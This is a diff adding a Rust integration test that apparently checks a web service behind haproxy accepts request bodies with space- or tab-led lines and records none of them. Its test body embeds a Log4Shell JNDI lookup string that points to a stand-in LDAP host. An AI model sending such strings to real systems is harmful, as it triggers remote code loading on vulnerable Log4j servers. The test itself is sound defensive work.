@@ -59,6 +59,43 @@ async fn what_is_given_is_explained_and_not_recorded() -> anyhow::Result<()> {
     Ok(())
 }
 
+/// haproxy looks for folded lines, and only a head has such.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_body_may_have_lines_that_begin_with_a_space_or_a_tab() -> anyhow::Result<()> {
+    let stack = Stack::start().await?;
+    let json = b"{\n  \"x\": \"${jndi:ldap://192.0.2.1/a}\",\n\t\"y\": 1\n}\n";
+    let file = form(&[("file", "; filename=\"x\"", json)]);
+    let pasted = form(&[("request", "", json), ("as", "", b"auto")]);
+    let multipart = "multipart/form-data; boundary=x";
+    let octets = "application/octet-stream";
+    let from_its_first_byte = [&b"\t"[..], LOG4SHELL].concat();
+    // Head and body come in one segment.
+    for (content_type, body) in [
+        (octets, &json[..]),
+        (octets, &from_its_first_byte),
+        ("application/x-www-form-urlencoded", json),
+        (multipart, &file),
+        (multipart, &pasted),
+    ] {
+        let page = post(&stack, content_type, "", body).await?;
+        ensure!(page.status == 200, "{content_type}: {}", page.status);
+        let is_the_page = page.header("content-security-policy").is_some();
+        ensure!(is_the_page, "{content_type}: {}", body.escape_ascii());
+    }
+    // However the lines of the head end.
+    for ends in ["\r\n\r\n", "\n\n", "\n\r\n", "\r\n\n"] {
+        let head = "POST /home/explain HTTP/1.1\nHost: x\nConnection: close\nContent-Length: ";
+        let head = format!("{head}{}{ends}", json.len());
+        let (mut reply, _) = exchange(stack.front(), &[head.as_bytes(), json].concat()).await?;
+        let page = Response::split_off(&mut reply, "POST").context("no whole response")?;
+        let is_the_page = page.header("content-security-policy").is_some();
+        ensure!(is_the_page, "{}", ends.escape_default());
+    }
+    let list = forever200_testkit::get_json(stack.front(), "/home/api/requests").await?;
+    ensure!(list["total"] == 0, "{list}");
+    Ok(())
+}
+
 #[tokio::test(flavor = "multi_thread")]
 async fn what_cannot_be_explained_is_said_on_the_form() -> anyhow::Result<()> {
     let stack = Stack::start().await?;
